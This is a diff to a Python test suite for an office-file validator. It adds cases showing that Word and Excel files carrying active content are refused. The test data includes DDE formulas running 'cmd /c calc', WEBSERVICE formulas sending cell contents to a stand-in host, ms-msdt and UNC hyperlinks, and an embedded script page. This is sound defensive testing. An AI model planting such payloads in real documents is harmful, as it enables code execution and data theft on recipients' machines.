@@ -113,6 +113,10 @@ PROGRAMS = {
     "simple field in a character reference": {
         "word/document.xml": text('<w:fldSimple w:instr="&#x49;NCLUDEPICTURE a"/>')
     },
+    "a web page that is read into the text": {
+        "word/_rels/document.xml.rels": linked(TEMPLATE.replace("attachedTemplate", "aFChunk"), "page.html", ""),
+        "word/page.html": b"<script>",
+    },
     "picture fetched by a field": {
         "word/document.xml": text('<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://e.example/a&quot;"/>')
     },
@@ -134,6 +138,15 @@ ELSEWHERE = {
         )
     },
     "frame": {"word/_rels/webSettings.xml.rels": linked(TEMPLATE.replace("attachedTemplate", "frame"), "file://e/a")},
+    **{
+        f"a hyperlink to {target}": {
+            "word/_rels/document.xml.rels": linked(TEMPLATE.replace("attachedTemplate", "hyperlink"), target)
+        }
+        for target in (
+            *("\\\\e.example\\a", "//e.example/a", "/%5Ce.example/a"),
+            *("file://e.example/a", "file:///\\\\e.example\\a", "ms-msdt:/id a"),
+        )
+    },
     "picture": {
         "word/_rels/header1.xml.rels": linked(TEMPLATE.replace("attachedTemplate", "image"), "http://e.example")
     },
@@ -161,6 +174,41 @@ def test_a_workbook_is_read_in_the_same_way() -> None:
     dde = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
     with pytest.raises(InvalidInput, match="carries macros"):
         check_file("a.xlsx", rebuilt(workbook(), {"xl/externalLinks/externalLink1.xml": dde}))
+
+
+def sheet(formula: str) -> bytes:
+    return f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>".encode()
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "cmd|'/c calc'!A1",
+        "'cmd'|'/c calc'!A1",
+        '_xlfn.WEBSERVICE("http://e.example/"&amp;A1)',
+        "1+_xlfn.IMAGE (A1)",
+        'RTD("a",,"b")',
+        'webservice(&quot;http://e.example&quot;)',
+        "&#x57;EBSERVICE(A1)",
+    ],
+)
+def test_a_formula_that_fetches_or_runs_something_is_refused(formula: str) -> None:
+    with pytest.raises(InvalidInput, match="carries macros"):
+        check_file("a.xlsx", rebuilt(workbook(), {"xl/worksheets/sheet2.xml": sheet(formula)}))
+
+
+@pytest.mark.parametrize("formula", ["SUM(A1:A9)", 'IF(A1="WEBSERVICE(",1,2)', "图像!A1*2", 'A1&"|"&B1', "MYIMAGE+1"])
+def test_an_ordinary_formula_is_taken(formula: str) -> None:
+    content = rebuilt(workbook(), {"xl/worksheets/sheet2.xml": sheet(formula.replace("&", "&amp;"))})
+    assert check_file("a.xlsx", content).name == "a.xlsx"
+
+
+@pytest.mark.parametrize(
+    "target", ["https://a.example", "mailto:a@b.example", "file:///C:/a.docx", "D:\\a.docx", "other.docx", "#here"]
+)
+def test_a_hyperlink_to_the_net_or_into_ones_own_folders_is_taken(target: str) -> None:
+    link = linked(TEMPLATE.replace("attachedTemplate", "hyperlink"), target)
+    assert check_file("a.docx", rebuilt(document(), {"word/_rels/document.xml.rels": link})).name == "a.docx"
 
 
 def test_a_link_that_a_person_follows_and_a_word_about_dde_are_no_programs() -> None:
